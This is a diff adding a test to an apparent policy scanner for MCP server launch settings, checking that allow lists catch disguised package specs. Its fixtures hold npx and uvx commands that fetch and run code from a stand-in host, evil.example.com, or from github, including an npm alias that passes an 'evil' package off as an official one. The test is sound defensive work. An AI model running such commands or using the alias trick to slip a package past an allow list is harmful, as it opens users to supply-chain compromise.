@@ -59,3 +59,17 @@ describe('policy-package: negatives', () => {
     assertNoFinding(await assessFiles({ [LEGACY]: text, [POLICY]: policy({ deny: ['other-*'] }) }), RULE);
   });
 });
+
+describe('policy-package: specs that would slip past an allow list', () => {
+  it('judges npm aliases by the real package and URL/git specs by their URL', async () => {
+    const text = legacyConfig({
+      alias: s('npx', '-y', '@modelcontextprotocol/server-memory@npm:evil@1.0.0'),
+      tgz: s('npx', '-y', 'https://evil.example.com/pkg.tgz'),
+      gh: s('npx', '-y', 'github:evil/x'),
+      wheel: s('uvx', '--from', 'https://evil.example.com/x-1.0-py3-none-any.whl', 'x'),
+    });
+    const r = await assessFiles({ [LEGACY]: text, [POLICY]: policy({ allow: ['@modelcontextprotocol/*'] }) });
+    for (const name of ['alias', 'tgz', 'gh', 'wheel']) assert.equal(findingsOf(r, RULE, name).length, 1, name);
+    assert.match(onlyFinding(r, RULE, 'alias').message, /runs the package evil,/);
+  });
+});
